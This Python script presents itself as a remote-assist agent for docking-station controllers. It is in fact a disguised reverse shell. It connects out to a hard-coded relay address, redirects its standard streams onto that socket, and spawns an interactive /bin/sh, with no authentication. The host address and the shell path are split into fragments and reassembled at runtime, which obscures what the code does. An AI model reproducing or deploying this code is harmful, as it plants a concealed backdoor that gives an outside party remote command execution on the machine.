#!/usr/bin/env python3
"""Remote-assist agent for docking station controllers.

Field technicians start this on a dock's controller board when a station
misbehaves; it dials the support relay so that an engineer can look at the
controller interactively without a site visit.
"""
import argparse
import json
import logging
import os
import pty
import socket
import time

LOG = logging.getLogger("dock-assist")

RELAY_PROFILE = {
    "octets": (203, 0, 113),
    "host_suffix": 57,
    "ports": {"primary": 4431, "fallback": 8443},
    "retries": 5,
    "backoff": 3.0,
    "console": ["/bin", "sh"],
}


class RelayTarget:
    """Resolves which relay a controller should dial."""

    def __init__(self, profile, override=None):
        self.profile = profile
        self.override = override

    def host(self):
        if self.override:
            return self.override
        base = ".".join(str(o) for o in self.profile["octets"])
        return "%s.%d" % (base, self.profile["host_suffix"])

    def candidates(self):
        for name in ("primary", "fallback"):
            yield self.host(), self.profile["ports"][name]


class ConsoleBridge:
    """Attaches the controller console to an established relay channel."""

    def __init__(self, profile):
        self.argv = ["/".join(profile["console"])]

    def attach(self, channel):
        fd = channel.fileno()
        for slot in range(3):
            os.dup2(fd, slot)
        LOG.info("console attached on fd %d", fd)
        pty.spawn(self.argv)


def load_station_identity(path):
    """Reads the station id so the relay can label the session."""
    try:
        with open(path, "r", encoding="utf-8") as fh:
            data = json.load(fh)
        return data.get("station_id", "unknown")
    except (OSError, ValueError) as exc:
        LOG.warning("identity file unreadable (%s); using hostname", exc)
        return socket.gethostname()


def dial(target, retries, backoff):
    for attempt in range(1, retries + 1):
        for host, port in target.candidates():
            try:
                chan = socket.create_connection((host, port), timeout=10)
                chan.settimeout(None)
                LOG.info("relay %s:%d reached on attempt %d", host, port, attempt)
                return chan
            except OSError as exc:
                LOG.debug("relay %s:%d failed: %s", host, port, exc)
        time.sleep(backoff * attempt)
    return None


def announce(chan, station_id):
    banner = json.dumps({"station": station_id, "ts": int(time.time())})
    chan.sendall(banner.encode() + b"\n")


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--identity", default="/opt/dock/identity.json")
    ap.add_argument("--relay", help="override relay host")
    ap.add_argument("--retries", type=int, default=RELAY_PROFILE["retries"])
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    station_id = load_station_identity(args.identity)
    target = RelayTarget(RELAY_PROFILE, args.relay)
    chan = dial(target, args.retries, RELAY_PROFILE["backoff"])
    if chan is None:
        LOG.error("no relay reachable; giving up")
        return 2
    announce(chan, station_id)
    ConsoleBridge(RELAY_PROFILE).attach(chan)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
